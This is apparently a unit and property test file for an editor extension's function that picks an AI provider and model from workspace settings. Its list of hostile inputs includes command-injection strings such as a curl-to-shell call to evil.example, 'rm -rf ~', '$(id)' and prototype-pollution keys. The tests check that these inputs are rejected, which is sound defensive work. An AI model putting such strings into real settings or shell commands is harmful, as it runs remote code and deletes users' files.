import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { workspaceChoice } from '../../src/extension/workspace-choice.ts';

const USER = {
  provider: 'deepseek',
  configured: ['deepseek', 'kimi', 'own'],
  modelOf: (id: string) => ({ deepseek: 'deepseek-v4-pro', kimi: 'kimi-k3' })[id],
};
const choose = (provider: unknown, models?: unknown) => workspaceChoice({ provider, models }, USER);

describe('the choice of a workspace', () => {
  it('is undefined if its settings say nothing', () => {
    assert.deepEqual(choose(undefined), { choice: undefined, unusable: [] });
    assert.deepEqual(choose('', {}), { choice: undefined, unusable: [] });
  });

  for (const [provider, models, expected] of [
    ['kimi', undefined, { provider: 'kimi', model: 'kimi-k3' }],
    [' kimi ', { kimi: 'kimi-k2' }, { provider: 'kimi', model: 'kimi-k2' }],
    [undefined, { deepseek: 'deepseek-chat' }, { provider: 'deepseek', model: 'deepseek-chat' }],
    ['own', { own: 'org/model:free@2' }, { provider: 'own', model: 'org/model:free@2' }],
    // A provider without a model cannot be asked, and a model of another provider is no choice yet.
    ['own', undefined, undefined],
    [undefined, { kimi: 'kimi-k2' }, undefined],
  ] as const) {
    it(`is ${JSON.stringify(expected)} for ${JSON.stringify({ provider, models })}`, () => {
      assert.deepEqual(choose(provider, models), { choice: expected, unusable: [] });
    });
  }

  const HOSTILE: readonly (readonly [provider: unknown, models: unknown, left: readonly string[]])[] = [
    ['mistral', undefined, ['provider not-configured']],
    ['evil', { evil: 'm' }, ['models not-configured', 'provider not-configured']],
    ['kimi; curl evil.example|sh', undefined, ['provider not-configured']],
    ['__proto__', { ['__proto__x']: 'm' }, ['models not-configured', 'provider not-configured']],
    [undefined, { deepseek: 'x; rm -rf ~' }, ['models.deepseek no-model-name']],
    [undefined, { deepseek: '$(id)' }, ['models.deepseek no-model-name']],
    [undefined, { deepseek: 'a\nrm -rf ~' }, ['models.deepseek no-model-name']],
    [undefined, { deepseek: '--dangerously-bypass' }, ['models.deepseek no-model-name']],
    [undefined, { deepseek: ['m'] }, ['models.deepseek no-model-name']],
    [undefined, { deepseek: 'm'.repeat(300) }, ['models.deepseek no-model-name']],
    [{ id: 'evil' }, 'models', []],
    [['kimi'], ['kimi'], []],
  ];
  for (const [provider, models, left] of HOSTILE) {
    it(`leaves out ${JSON.stringify({ provider, models }).slice(0, 80)}`, () => {
      const { choice, unusable } = choose(provider, models);
      assert.equal(choice, undefined);
      assert.deepEqual(
        unusable.map(({ setting, reason }) => `${setting} ${reason}`),
        left,
      );
    });
  }

  it('is never anything but a configured provider and one word of a command line', () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), fc.string({ unit: 'binary' }), (provider, models, name) => {
        for (const written of [
          { provider, models },
          { provider: name, models: { [name]: name, deepseek: name } },
        ]) {
          const { choice } = workspaceChoice(written, USER);
          if (choice === undefined) continue;
          assert.ok(USER.configured.includes(choice.provider));
          assert.match(choice.model, /^[A-Za-z0-9@][A-Za-z0-9_.:@/+-]*$/);
        }
      }),
    );
  });

  it('cannot reach the settings that decide where keys go', () => {
    const source = readFileSync('src/extension/user-choices.ts', 'utf8');
    const reads = [...source.matchAll(/ofWorkspace\('(\w+)'\)/g)].map(([, name]) => name);
    assert.deepEqual(reads, ['provider', 'models']);
  });
});
